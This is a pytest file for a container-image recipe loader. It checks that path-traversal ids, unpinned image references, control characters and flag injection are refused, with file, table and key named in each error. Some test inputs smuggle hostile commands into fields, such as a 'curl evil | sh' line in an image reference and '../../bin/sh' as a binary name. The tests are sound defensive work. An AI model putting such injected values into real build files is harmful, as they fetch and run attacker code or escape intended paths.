"""Every recipe value is checked at load time, with file + table + key in the message (issue 6, defect 6)."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from cheatsheet.bases import BOOTSTRAP_NAMES
from cheatsheet.recipes import IMAGES_SCHEMA, RECIPES, VERIFY_KINDS, RecipeError, load_recipes, schema_enum

GOOD_VARIANT = (
    '[[variants]]\nprogram = "hello-world"\nid = "x"\nbase = "scratch"\ntarget = "glibc-static"\nprofile = "stripped"\n'
)


def recipes_with(tmp_path: Path, old: str, new: str, extra: str = "") -> Path:
    text = RECIPES.read_text()
    assert old in text, old
    path = tmp_path / "recipes.toml"
    path.write_text(text.replace(old, new, 1) + extra)
    return path


def refused(path: Path, *patterns: str) -> str:
    with pytest.raises(RecipeError) as info:
        load_recipes(path)
    message = str(info.value)
    assert message.startswith(f"{path}: "), message
    for pattern in patterns:
        assert re.search(pattern, message), (pattern, message)
    assert "\n" not in message
    return message


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        # ids are slugs: no path traversal through a program id, a base or a variant id
        ("[programs.hello-world]", '[programs."../../etc"]', r"\[programs\.'\.\./\.\./etc'\]: id = .* must be a slug"),
        (
            '[[variants]]\nprogram = "hello-world"\nid = "debian"\n',
            '[[variants]]\nprogram = "hello-world"\nid = "../x"\n',
            r"id = '\.\./x' must be a slug",
        ),
        ("[targets.glibc-static]", "[targets.Glibc_Static]", r"\[targets\.'Glibc_Static'\]: id"),
        ("[profiles.stripped]", '[profiles."a b"]', r"\[profiles\.'a b'\]: id"),
        # base names come from images.schema.json
        ("[bases.alpine]", "[bases.ubuntu]", r"\[bases\.ubuntu\]: name = 'ubuntu' is not one of: debian, "),
        # pull: a digest-pinned reference, nothing else
        (
            'pull = "alpine:3.22@sha256:',
            'pull = "alpine:3.22\\nRUN curl evil | sh\\n@sha256:',
            r"\[bases\.alpine\]: pull = .* must be an image reference pinned by digest",
        ),
        ('pull = "alpine:3.22@sha256:', 'pull = "alpine:3.22 @sha256:', r"\[bases\.alpine\]: pull"),
        (
            'pull = "alpine:3.22@sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1"',
            'pull = "alpine:3.22"',
            r"\[bases\.alpine\]: pull = 'alpine:3.22' must be .*pinned by digest",
        ),
        (
            'pull = "alpine:3.22@sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1"',
            'pull = "alpine:3.22@sha256:4bcff639"',
            r"\[bases\.alpine\]: pull",
        ),
        # binary: a plain file name
        (
            'binary = "hello-world"',
            'binary = "../../bin/sh"',
            r"\[programs\.hello-world\]: binary = .* must be a plain file name",
        ),
        # a program's path stays inside programs/
        (
            'path = "programs/hello-world"',
            'path = "programs/../tests/fixtures/programs/exit-three"',
            r"\[programs\.hello-world\]: path = .*(must|leaves)",
        ),
        (
            'path = "programs/hello-world"',
            'path = "tests/fixtures/programs/exit-three"',
            r"\[programs\.hello-world\]: path = .* leaves programs/",
        ),
        ('path = "programs/hello-world"', 'path = "/etc"', r"\[programs\.hello-world\]: path = '/etc'"),
        # bootstrap names are the registry's
        (
            'bootstrap = "debian-slim"',
            'bootstrap = "ubuntu-minimal"',
            r"\[bases\.debian-slim\]: bootstrap = 'ubuntu-minimal' is not one of: "
            r"debian-minbase, debian-slim, distroless-static",
        ),
        # enums from the schema
        ('libc = "musl"', 'libc = "bionic"', r"\[targets\.musl-static\]: libc = 'bionic' is not one of: glibc, musl"),
        ('toolchain = "debian-build-std"', 'toolchain = "nightly"', r"toolchain = 'nightly' is not one of"),
        ('triple = "x86_64-unknown-linux-musl"', 'triple = "x86_64 unknown"', r"\[targets\.musl-static\]: triple"),
        # flags and features: no control characters
        (
            'rustflags = ["-C", "target-feature=+crt-static"]',
            'rustflags = ["-C", "target-feature=+crt-static\\nFROM evil"]',
            r"\[targets\.glibc-static\]: rustflags\[1\] contains the invisible or control character U\+000A",
        ),
        ('rustflags = ["-C", "target-feature=+crt-static"]', 'rustflags = ["-C\\u202e"]', r"U\+202E"),
        (
            'settings = { strip = "symbols" }',
            'settings = { strip = "symbols\\n" }',
            r"\[profiles\.stripped\]: settings\.strip",
        ),
        (
            'settings = { strip = "symbols" }',
            'settings = { strip = "everything" }',
            r"strip = 'everything' is not one of",
        ),
        (
            'verify = [{ kind = "stdout", equals = "Hello, world!\\n" }]',
            'verify = [{ kind = "http", equals = "" }]',
            r"\[programs\.hello-world\]\.verify\[0\]: kind = 'http' is not one of: stdout",
        ),
    ],
)
def test_a_dangerous_value_is_refused_naming_file_table_and_key(tmp_path, old, new, expected):
    refused(recipes_with(tmp_path, old, new), expected)


def test_features_are_cargo_feature_names(tmp_path):
    path = recipes_with(
        tmp_path,
        "# The original cheatsheet's",
        "# The original cheatsheet's",
        GOOD_VARIANT.replace('id = "x"', 'id = "feat"') + 'features = ["std", "a\\tb"]\n',
    )
    refused(path, r"\[\[variants\]\] #[0-9]+ \('hello-world'/'feat'\): features\[1\] contains .* U\+0009")
    path.write_text(path.read_text().replace('"a\\tb"', '"--config=evil"'))
    refused(path, r"features\[1\] = '--config=evil' must be a cargo feature name")


def test_a_long_value_is_quoted_short(tmp_path):
    message = refused(recipes_with(tmp_path, 'binary = "hello-world"', f'binary = "{"x/" * 5000}"'), "binary")
    assert len(message) < 400


def test_the_real_recipes_and_the_fixtures_load():
    load_recipes()
    fixtures = Path(__file__).resolve().parent / "fixtures"
    load_recipes(fixtures / "recipes.toml", program_roots=(RECIPES.parent, fixtures / "programs"))


def test_recipe_choices_come_from_the_schema():
    """One source: what a recipe may say is what images.schema.json allows."""
    schema = {f["name"]: f for f in json.loads(IMAGES_SCHEMA.read_text())["fields"]}
    for column in ("libc", "crt_linkage", "tls", "dns", "allocator", "toolchain", "base", "strip"):
        assert schema_enum(column) == tuple(schema[column]["constraints"]["enum"])
    recipes = load_recipes()
    for base in recipes.bases:
        assert base in schema_enum("base")
    for spec in recipes.bases.values():
        assert spec.bootstrap in ("", *BOOTSTRAP_NAMES)


def test_every_verify_kind_has_a_verifier():
    from cheatsheet.measure import VERIFIERS
    from cheatsheet.recipes import SERVER_VERIFY_KINDS

    # a kind is checked either on the output of a run to completion (VERIFIERS) or as a server on the
    # private test network (cheatsheet.measure.verify_server)
    assert set(VERIFY_KINDS) == set(VERIFIERS) | set(SERVER_VERIFY_KINDS)
    assert not set(VERIFIERS) & set(SERVER_VERIFY_KINDS)


def test_log_files_stay_in_the_logs_directory(tmp_path):
    from cheatsheet.measure import Context

    recipes = load_recipes()
    ctx = Context(recipes=recipes, csv_path=tmp_path / "images.csv", cache_dir=tmp_path / "cache")
    for variant in recipes.variants:
        assert ctx.log_path(variant, "cargo").parent == tmp_path / "cache" / "logs"
